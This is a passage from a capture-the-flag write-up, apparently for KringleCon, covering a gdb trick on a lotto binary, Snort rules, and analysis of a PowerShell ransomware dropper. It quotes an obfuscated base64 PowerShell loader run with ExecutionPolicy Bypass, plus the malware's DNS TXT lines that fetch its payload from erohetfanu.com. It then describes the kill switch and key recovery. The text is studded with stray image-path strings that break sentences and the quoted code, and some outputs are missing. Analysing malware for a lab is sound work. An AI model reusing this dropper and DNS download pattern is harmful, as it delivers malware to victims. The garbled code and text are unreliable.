I ran the application a few times to get a feel for what it did. It seems to be picking a random lotto number, comparing it to the winning number thendeciding if you won or not. From there I dumped the symbol table withobjdump -t sleighbell-lotto. This gave the following interesting things:

0000000000208060 g O .data 0000000000000008 winnermsg
0000000000000fd7 g F .text 00000000000004e0 winnerwinner
00000000000014b7 g F .text 0000000000000013 sorry

Solving the challenge was then a matter of:

elf@1bde13810748:~$ gdb -q ./sleighbell-lotto
Reading symbols from ./sleighbell-lotto...(no debugging symbols found)...done.
(gdb) break main
Breakpoint 1 at 0x14ce
(gdb) run
Starting program: /home/elf/sleighbell-lotto
[Thread debugging using libthread_db enabled]
Using host libthread_db library "/lib/x86_64-linux-gnu/libthread_db.so.1".
Breakpoint 1, 0x00005555555554ce in main ()
(gdb) jump winnerwinner

9.1 – Catch the Malware

Snort rules used are below. Analysing the packet captures showed the string 77616E6E61636F6F6B69652E6D696E2E707331 seemed to be showing up in all the requests.

I used http://snorpy.com/ to get me started with rule creation. Creating the following snort rules did the trick.

Initially I only had the first rule but fixed this once I noted the traffic was bi-directional.

9.2 – Identify the Domain

I manually extracted the script from the supplied MS Word document. Using the example from the video. I then extracted the dropper value.

powershell.exe -ExecutionPolicy Bypass -C "sal a New-Object; (a IO.StreamReader((aIO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('lVHRSsMwFP2VSwksYUtoWkxxY4iyir4oaB+EMUYoqQ1syUjToXT7d2/1Zb4pF5JDzuGce2+a3tXRegcP2S0lmsFA/AKIBt4ddjbChArBJnCCGxiAbOEMiBsfSl23MKzrVocNXdfeHU2Im/k8euuiVJRsZ1Ixdr5UEw9LwGOKRucFBBP74PABMWmQSopCSVViSZWre6w7da2uslKt8C6zskiLPJcJyttRjgC9zehNiQXrIBXispnKP7qYZ5S+mM7vjoavXPek9wb4qwmoARN8a2KjXS9qvwf+TSakEb+JBHj1eTBQvVVMdDFY997NQKaMSzZurIXpEv4bYsWfcnA51nxQQvGDxrlP8NxH/kMy9gXREohG'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd() Out-File dropper.ps1"

Decoding, cleaning up & analysing the code provided two lines of interest.

foreach ($i in 0..([convert]::ToInt32((Resolve-DnsName -Server erohetfanu.com -Name "$f.erohetfanu.com" -Type TXT).strings, 10)-1)) {
$h += (Resolve-DnsName -Server erohetfanu.com -Name "$i.$f.erohetfanu.com" -Type TXT).strings};

From looking at the malware the domain being communicated with is erohetfanu.com.

9.3 – Stop the MalwareAnalysing the initial dropper shows it pulls TXT records via a series of DNS queries from erohetfanu.com. This is to download the actual malware. Removing the final iex statement from the dropper and running it gives the malware code.

After cleaning up the code any analysing it the likely kill switch line is:

if ($null -ne ((Resolve-DnsName -Name $(H2A $(B2H $(ti_rox $(B2H $(G2B $(H2B $S1))) $(Resolve-DnsName -Server erohetfanu.com -Name 6B696C6C737769746368.erohetfanu.com -Type TXT).Strings))).ToString() -ErrorAction 0 -Server {return};

If the DNS lookup is successfully completed from a public DNS server ( the main malware function will exit.

Level of code obfuscation means the actual value can only be extracted from debugging the script. First I simplified thecode – TXT DNS lookup done on 6B696C6C737769746368.erohetfanu.com gave 66667272727869657268667865666B73. Stepping through the braces (I messed this up first time) gave a line of H2A(B2H(ti_rox(B2H(G2B(H2B($S1))))(“66667272727869657268667865666B73”))).ToString().

Breakpoint was set on this line using Powershell ISE and code was run. Command was run at the debug console which gave yippeekiyaa.aaay. Registering this on HoHoHo Daddy unlocked the achievement.

9.4 – Recover Alabaster’s Password

Overall I found this one the hardest (likely why it got a 5 star difficulty rating). Thank you to rjacksix from Discord for the assist.From analysing the malware:

  1. Initial encryption of *.elfdb files is done using the random key generated in $b_k
  2. Key object $p_k_e_k is created using a pre-defined public key (fetched via DNS) encrypted using $b_k and the result stored as hex.
  3. After the files are encrypted the $b_k key is removed from memory.
  4. Value in $p_k_e_k is not removed from memory. Length of $p_k_e_k when debugging the script is 512 characters.

From the above $p_k_e_k looks to be the only key that would be left in memory we could use.

From there I used power dump to search for 512 hexadecimal character variables & found only one(3cf903522e1a3966805b50e7f7dd51dc7969c73cfb1663a75a56ebf4aa4a1849d1949005437dc44b8464dca05680d531b7a971672d87b24b7a6d672d1d811e6c34f42b2f8d7f2b43aab698b537d2df2f401c2a09fbe24c5833d2c5861139c4b4d3147abb55e671d0cac709d1cfe86860b6417bf019789950d0bf8d83218a56e69309a2bb17dcede7abfffd065ee0491b379be44029ca4321e60407d44e6e381691dae5e551cb2354727ac257d977722188a946c75a295e714b668109d75c00100b94861678ea16f8b79b756e45776d29268af1720bc49995217d814ffd1e4b6edce9ee57976f9ab398f9a8479cf911d7d47681a77152563906a2c29c6d12f971)

Given the malware script coverts this to hex (using B2H) I convert it back to binary using xxd. This gives a 256 byte binary file.

From here we need other keys we can use to decode this. Given the hint was around asymmetric encryption, it’s likely we need a public & private key from somewhere.

Digging through the malware source code reveals:

$p_k = [System.Convert]::FromBase64String($(g_o_dns("7365727665722E637274") ) );

Guessing this is a “public key” ($p_k). Obtaining the TXT record for 7365727665722E637274.erohetfanu.com returns 10. Decoding 7365727665722E637274 via base64 provides server.crt. From here we may be onto something.

Fetching the values using the similar approach to 9.3 returns:


On an assumption server.key can be obtained using the same method, server.key is encoded using base64 and the TXT record for7365727665722e6b6579.erohetfanu.com is looked up. Result comes back as 14 – Bingo 😊

Pulling the filedown gives us:


OpenSSL is used to decrypt the above 256 byte file using the obtained private key. The hex of the decrypted key is then run back through the malware using:

$key = $(H2B "FBCFC121915D99CC20A3D3D5D84F8308");
e_n_d $key $f_c $false;

Which provides the decrypted elfdb file. Opening this using sqlite3 gives the vault password of ED#ED#EED#EF#G#F#G#ABA#BA#B & objective 9 completed.

Objective 10 – Who is behind it all?

Access to the vault room is needed to solve this objective.

Clues we have to open the vault door are:

Playing the initial vault passcode gives a message to say we are on the right track, but the song is in the wrong key.

Based on the musical transposition notes obtained from Objective 8, D is a whole step lower then E. Transposing the password down a whole step gives us D C# D C# D D C# D E F# E F# G A G# A G# A. Playing this on the door lock we have entry.

After entering the vault and chatting with Santa we get the answer to the objective –Santa.

Santa staged the event to help find people with a diverseset of skills to help defend the North Pole from future cyber-attacks. The text from chatting with Santa is below.

You DID IT! You completed the hardest challenge. You see,Hans and the soldiers work for ME. I had to test you. And you passed the test!
You WON! Won what, you ask? Well, the jackpot, my dear! The grand and glorious jackpot!
You see, I finally found you!
I came up with the idea of KringleCon to find someone like you who could help me defend the North Pole against even the craftiest attackers.
That’s why we had so many different challenges this year.
We needed to find someone with skills all across the spectrum.
I asked my friend Hans to play the role of the bad guy to see if you could solve all those challenges and thwart the plot we devised.
And you did!
Oh, and those brutish toy soldiers? They arereally just some of myelves in disguise.
See what happens when they take off those hats?
Based on your victory… next year, I’m going to ask for your helpin defending my whole operation from evil bad guys.
And welcome to my vault room. Where’s my treasure? Well, my treasure is Christmasjoy and good will.
You did such a GREAT job! And rememberwhat happened to the people who suddenly got everything they ever wanted?
They lived happily ever after.